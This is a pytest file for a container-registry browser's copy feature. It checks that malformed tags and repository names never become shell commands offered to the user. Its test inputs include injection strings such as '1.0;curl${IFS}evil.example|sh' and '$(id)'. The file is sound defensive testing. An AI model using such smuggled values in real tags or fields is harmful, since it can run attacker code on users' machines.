"""What can be copied, and what must not be offered to a shell."""

from __future__ import annotations

import pytest

from regbrowse.browser.states import PlatformChoice
from regbrowse.registry.digest import Digest
from regbrowse.registry.reference import Reference, RegistryAddress, Target, parse_target
from regbrowse.registry.text import SafeText
from regbrowse.tui.copying import is_reference, obvious, offers

HOST = RegistryAddress("registry.corp:5000")
DIGEST = Digest.of(b"image")
NOTHING = SafeText("")


@pytest.mark.parametrize("tag", ["1.0;curl${IFS}evil.example|sh", "$(id)", "a b", "", "-" * 129, "␛[31m"])
def test_no_command_is_made_of_a_tag_outside_the_grammar(tag: str) -> None:
    target = Target(HOST, "team/app", Reference(tag))
    assert not is_reference(target)
    assert [str(offer.text) for offer in offers(target, DIGEST, NOTHING)] == [str(DIGEST)]


def test_no_command_is_made_of_a_repository_outside_the_grammar() -> None:
    assert list(offers(Target(HOST, "team/app;id"), None, NOTHING)) == []


def test_reference_is_what_one_types_after_docker_pull() -> None:
    assert obvious(Target(HOST, "team/app", Reference("1.0"))) == "registry.corp:5000/team/app:1.0"


def test_chosen_platform_can_be_copied_by_its_digest() -> None:
    chosen = PlatformChoice(Digest.of(b"arm"), SafeText("linux/arm64"), 1)
    texts = [offer.text for offer in offers(Target(HOST, "team/app", Reference("1.0")), DIGEST, NOTHING, chosen)]
    assert f"registry.corp:5000/team/app@{chosen.digest}" in texts
    assert f"registry.corp:5000/team/app@{DIGEST}" in texts


def test_of_a_v1_registry_no_command_is_offered_that_no_longer_speaks_it() -> None:
    target = parse_target("old.corp:5000/team/app:1.0")
    found = offers(target, None, SafeText(""), v1=("http://old.corp:5000/v1/", "ab" * 32))
    assert [offer.text for offer in found] == [
        "old.corp:5000/team/app:1.0",
        "ab" * 32,
        f"curl -s http://old.corp:5000/v1/images/{'ab' * 32}/json",
    ]
